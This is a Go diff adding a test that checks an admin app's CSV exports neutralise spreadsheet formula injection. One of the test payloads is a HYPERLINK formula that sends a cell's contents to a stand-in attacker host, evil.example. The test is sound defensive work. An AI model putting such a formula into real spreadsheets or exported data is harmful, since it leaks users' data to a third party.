@@ -3,6 +3,7 @@ package handlers
 import (
 	"bufio"
 	"context"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"net"
@@ -384,4 +385,47 @@ func TestForgedForwardedForBehindATrustedProxy(t *testing.T) {
 		resp, _ = e.post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testPassword}}, "X-Forwarded-For", "203.0.113.8")
 		wantStatus(t, resp, http.StatusSeeOther)
 	})
+}
+
+// TestCSVExportsDefuseFormulas stores spreadsheet formulas in every free-text
+// field and checks no cell of any list's CSV export starts with a character
+// a spreadsheet would evaluate.
+func TestCSVExportsDefuseFormulas(t *testing.T) {
+	e := newTestEnv(t)
+	ctx := context.Background()
+	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+1+1", "-2+3", "@SUM(1,2)"}
+	for i, f := range formulas {
+		p, err := e.store.CreatePerson(ctx, models.PersonInput{Name: f, Email: "f" + itoa64(int64(i)) + "@example.com"}, testActor)
+		if err != nil {
+			t.Fatal(err)
+		}
+		plate := "CSV" + itoa64(int64(i))
+		if _, err := e.store.CreateVehicle(ctx, models.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testActor); err != nil {
+			t.Fatal(err)
+		}
+		badge := "F" + itoa64(int64(i))
+		if _, err := e.store.CreateOfficer(ctx, models.OfficerInput{Name: f, Badge: badge, Active: true}, testActor); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := e.store.CreateInfraction(ctx, models.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testActor); err != nil {
+			t.Fatal(err)
+		}
+	}
+	e.login()
+	for _, list := range []string{"/admin/personas", "/admin/vehiculos", "/admin/oficiales", "/admin/infracciones", "/admin/auditoria", "/admin/administradores"} {
+		resp := e.do(httptest.NewRequest(http.MethodGet, list+"?formato=csv", nil))
+		wantStatus(t, resp, http.StatusOK)
+		recs, err := csv.NewReader(resp.Body).ReadAll()
+		resp.Body.Close()
+		if err != nil || len(recs) < 2 {
+			t.Fatalf("%s: %d records, %v", list, len(recs), err)
+		}
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would run as a formula", list, cell)
+				}
+			}
+		}
+	}
 }
